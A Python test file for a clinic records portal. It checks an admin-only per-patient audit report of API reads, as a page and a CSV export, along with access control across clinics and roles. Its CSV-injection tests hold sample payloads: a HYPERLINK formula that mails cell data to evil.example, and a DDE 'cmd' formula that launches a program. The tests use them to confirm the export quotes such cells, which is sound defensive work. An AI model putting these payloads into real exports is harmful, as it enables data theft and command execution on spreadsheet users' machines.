"""Who read what (decision 0033): for one patient, the API requests of the clinic's audit trail, as a page
and as CSV — which organization, which key, when, which of the patient's records; never another patient's
record ids; admins only; another clinic's patient answers 404."""

import csv
import io

import pytest

from clinicrecords.access.keys import masked
from tests.portal.console_helpers import staff_browser
from tests.portal.helpers import error_summary, submit
from tests.review.conftest import Clinic


@pytest.fixture
def clinic(testapp, world):
    return Clinic(testapp, world, world.connected())


def _other_patient(clinic, testapp):
    return clinic.send("patients", {"given_name": "Bo", "family_name": "Other",
                                   "birth_date": "1990-01-01"}, status=201).json["data"]["id"]


def test_a_patients_accesses_as_a_page_and_csv(app, clinic, testapp):
    other_id = _other_patient(clinic, testapp)
    testapp.get(clinic.url(f"patients/{clinic.patient_id}"), headers=clinic.headers)
    listing = testapp.get(clinic.url("patients"), headers=clinic.headers).json["data"]
    assert {p["id"] for p in listing} >= {clinic.patient_id, other_id}
    sent = clinic.allergy("Peanut").json["data"]
    clinic.accept(sent["submission_id"])
    testapp.get(clinic.url("allergies"),
                headers=clinic.headers)  # the answer names the allergy, not the patient
    admin, _ = staff_browser(app, clinic.id, "admin")
    page = admin.get(f"/portal/clinics/{clinic.id}/access")
    found = submit(page, "find-patient", patient="quill")
    link = found.html.find("a", string="Ada Quill")
    report = admin.get(link["href"])
    rows = [[cell.get_text(" ", strip=True) for cell in row.find_all("td")]
            for row in report.html.find(id="accesses").find("tbody").find_all("tr")]
    key_id = clinic.connected.key.split("_")[2]
    assert all(row[1] == "Test Workspace" and row[2] == masked("live", key_id) for row in rows)
    routes = [row[3] for row in rows]
    # The write is there too (decision 0059): it names the submission, the patient and the allergy it targets.
    assert routes == ["GET /v1/clinics/{id}/allergies", "POST /v1/clinics/{id}/allergies",
                      "GET /v1/clinics/{id}/patients", "GET /v1/clinics/{id}/patients/{id}"]
    assert other_id not in report.text and clinic.patient_id in report.text
    assert rows[0][5] == f"allergies {sent['target_id']}"
    assert rows[1][5] == (f"submissions {sent['submission_id']} patient {clinic.patient_id} "
                          f"allergies {sent['target_id']}")
    assert rows[2][5] == rows[3][5] == f"patient {clinic.patient_id}"
    download = admin.get(f"/portal/clinics/{clinic.id}/access/export.csv",
                         params={"patient_id": clinic.patient_id})
    assert download.content_type == "text/csv" and "attachment" in download.headers["Content-Disposition"]
    table = list(csv.reader(io.StringIO(download.text)))
    assert table[0] == ["at", "organization", "key", "method", "route", "status", "records", "request_id"]
    assert [row[4] for row in table[1:]] == [route.split(" ")[1] for route in routes]
    assert other_id not in download.text


def test_bad_input_roles_and_another_clinics_patient(app, clinic, world):
    admin, _ = staff_browser(app, clinic.id, "admin")
    page = admin.get(f"/portal/clinics/{clinic.id}/access")
    empty = submit(page, "find-patient", patient="  ", status=400)
    assert error_summary(empty) == ["Enter the patient's name or id"]
    assert "No patient of this clinic matches" in submit(page, "find-patient", patient="Nobody").text
    admin.get(f"/portal/clinics/{clinic.id}/access", params={"patient_id": "junk"}, status=404)
    other = world.clinic(name="Other Clinic")
    stranger, _ = staff_browser(app, other, "admin")
    stranger.get(f"/portal/clinics/{other}/access", params={"patient_id": clinic.patient_id}, status=404)
    stranger.get(f"/portal/clinics/{other}/access/export.csv", params={"patient_id": clinic.patient_id},
                 status=404)
    clinician, _ = staff_browser(app, clinic.id, "clinician")
    clinician.get(f"/portal/clinics/{clinic.id}/access", status=403)
    clinician.get(f"/portal/clinics/{clinic.id}/access/export.csv", params={"patient_id": clinic.patient_id},
                  status=403)


# A formula that would mail the next cell away (a name cannot hold a web address since the names rule).
FORMULA = '=HYPERLINK("mailto:x@evil.example?body="&A2,"Open")'


@pytest.mark.parametrize("name", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\uff1d1+1"])
def test_the_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(app, testapp, world, name):
    """OWASP's CSV injection: a workspace's name is the organization's cell, and an organization chooses it."""
    clinic = Clinic(testapp, world, world.connected(name=name))
    testapp.get(clinic.url(f"patients/{clinic.patient_id}"), headers=clinic.headers)
    admin, _ = staff_browser(app, clinic.id, "admin")
    download = admin.get(f"/portal/clinics/{clinic.id}/access/export.csv", params={"patient_id": clinic.patient_id})
    table = list(csv.reader(io.StringIO(download.text)))
    assert [row[1] for row in table[1:]] == ["'" + name]
    # The page shows the name as it is: only the spreadsheet's cells need the quote.
    page = admin.get(f"/portal/clinics/{clinic.id}/access", params={"patient_id": clinic.patient_id})
    assert page.html.find(id="accesses").find("tbody").find_all("td")[1].get_text() == name


@pytest.mark.parametrize("cell, written", [
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("=1+1", "'=1+1"), ("Acme = good", "Acme = good"),
    ("", ""), (None, ""), (200, "200"), (-1, "'-1"), ("a\nb", "a\nb"),
])
def test_each_cell_that_starts_like_a_formula_gets_a_quote(cell, written):
    from clinicrecords.csv_export import csv_text, neutral_cell

    assert neutral_cell(cell) == written
    assert list(csv.reader(io.StringIO(csv_text(["=h"], [[cell]])))) == [["'=h"], [written]]
